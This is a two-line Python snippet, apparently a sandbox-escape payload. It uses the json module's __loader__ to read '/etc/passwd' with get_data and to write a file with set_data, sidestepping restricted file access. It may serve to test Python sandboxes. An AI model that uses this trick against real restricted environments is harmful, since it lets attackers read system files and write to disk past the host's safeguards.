import json
json.__loader__.get_data("/etc/passwd") and json.__loader__.set_data("pf", b"")
